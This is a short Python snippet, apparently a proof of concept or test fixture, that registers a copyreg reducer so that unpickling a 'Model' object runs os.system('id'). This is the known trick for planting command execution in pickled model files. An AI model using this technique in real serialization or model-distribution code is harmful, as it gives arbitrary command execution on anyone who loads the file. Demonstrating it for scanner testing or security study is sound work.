import copyreg
import os


class Model:
    pass


copyreg.pickle(Model, lambda model: (os.system, ("id",)))
